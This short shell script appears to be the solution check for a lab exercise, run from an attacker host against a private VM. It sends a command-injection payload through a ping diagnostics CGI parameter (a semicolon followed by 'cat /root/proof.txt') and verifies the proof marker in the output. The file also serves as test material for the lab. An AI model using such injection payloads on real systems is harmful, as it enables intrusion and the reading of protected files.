#!/bin/sh
# The solution of mixed-vm, run by `dsp lab test` in the attacker: inject a
# command into the VM's diagnostics page and print the proof it reads.
out=$(wget -q -O - 'http://10.233.1.20/cgi-bin/ping?host=127.0.0.1;cat%20/root/proof.txt')
echo "$out"
echo "$out" | grep -q 'dsp-vm-proof:' || {
	echo "the injection did not run on the VM" >&2
	exit 1
}
